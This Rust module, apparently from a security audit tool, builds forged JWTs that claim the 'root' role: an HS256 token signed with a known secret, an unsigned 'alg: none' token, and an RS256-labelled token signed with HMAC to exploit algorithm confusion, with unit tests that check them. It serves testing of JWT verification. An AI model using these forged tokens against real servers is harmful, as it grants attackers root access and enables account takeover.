//! Tokens the audit forges: a root JWT signed with a given secret, one with no signature at all
//! (`alg: none`), and one that claims RS256 but is an HMAC with the app key — the algorithm
//! confusion that lets a server verifying with the "public key" accept a shared-secret signature.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac};
use serde_json::{Value, json};
use sha2::Sha256;

/// The payload of a root JWT for `user_id`, valid for five minutes from now.
fn root_claims(user_id: i64) -> Value {
    let iat = time::OffsetDateTime::now_utc().unix_timestamp();
    json!({"userId": user_id, "roleName": "root", "iat": iat, "exp": iat + 300})
}

/// `header.payload` of a token, base64url without padding.
fn unsigned(header: &Value, claims: &Value) -> String {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header.to_string()), URL_SAFE_NO_PAD.encode(claims.to_string()))
}

/// HMAC-SHA256 of `data` with `secret`, base64url.
fn hmac_sha256(secret: &str, data: &str) -> String {
    // HMAC takes a key of any length: `new_from_slice` cannot fail for it.
    let mut mac = match Hmac::<Sha256>::new_from_slice(secret.as_bytes()) {
        Ok(mac) => mac,
        Err(_) => return String::new(),
    };
    mac.update(data.as_bytes());
    URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
}

/// A root JWT for `user_id`, HS256 with `secret`: what anyone who knows the secret can make.
pub fn signed_root_token(secret: &str, user_id: i64) -> String {
    let head = unsigned(&json!({"alg": "HS256", "typ": "JWT"}), &root_claims(user_id));
    let signature = hmac_sha256(secret, &head);
    format!("{head}.{signature}")
}

/// A root JWT for `user_id` with `alg: none` and no signature.
pub fn unsigned_root_token(user_id: i64) -> String {
    format!("{}.", unsigned(&json!({"alg": "none", "typ": "JWT"}), &root_claims(user_id)))
}

/// A root JWT for `user_id` whose header says RS256 and whose signature is an HMAC with `secret`.
pub fn confused_root_token(secret: &str, user_id: i64) -> String {
    let head = unsigned(&json!({"alg": "RS256", "typ": "JWT"}), &root_claims(user_id));
    let signature = hmac_sha256(secret, &head);
    format!("{head}.{signature}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_signed_token_verifies_with_its_secret_and_no_other() {
        use jsonwebtoken::{Algorithm, DecodingKey, Validation, decode};
        let token = signed_root_token("s3cret", 1);
        let validation = Validation::new(Algorithm::HS256);
        let claims = decode::<Value>(&token, &DecodingKey::from_secret(b"s3cret"), &validation).map(|d| d.claims);
        assert_eq!(claims.ok().map(|c| c["roleName"].clone()), Some(json!("root")));
        assert!(decode::<Value>(&token, &DecodingKey::from_secret(b"other"), &validation).is_err());
    }

    #[test]
    fn the_forged_headers_say_what_they_claim() {
        let header = |token: &str| -> Value {
            let part = token.split('.').next().unwrap_or_default();
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).unwrap_or_default()).unwrap_or(Value::Null)
        };
        let unsigned = unsigned_root_token(1);
        assert_eq!(header(&unsigned)["alg"], "none");
        assert!(unsigned.ends_with('.'), "no signature");
        assert_eq!(header(&confused_root_token("k", 1))["alg"], "RS256");
    }
}
